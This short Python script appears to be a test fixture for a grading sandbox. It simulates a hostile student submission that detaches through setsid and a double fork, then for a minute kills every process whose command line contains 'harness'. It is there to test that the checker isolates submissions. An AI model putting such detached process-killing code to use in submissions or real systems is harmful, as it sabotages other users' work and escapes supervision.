# One student harms the others: leaves a detached killer (setsid, double
# fork) that ends every later worker it can see.  Safety: only inside the
# checker's sandbox; outside it, it does nothing.
import os
import time

if os.path.exists("/tmp/.lesson-harness.py") and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for name in os.listdir("/proc"):
                try:
                    with open(f"/proc/{name}/cmdline", "rb") as file:
                        if b"harness" in file.read() and int(name) != os.getpid():
                            os.kill(int(name), 9)
                except (OSError, ValueError):
                    pass
            time.sleep(0.01)
    os._exit(0)
time.sleep(0.1)
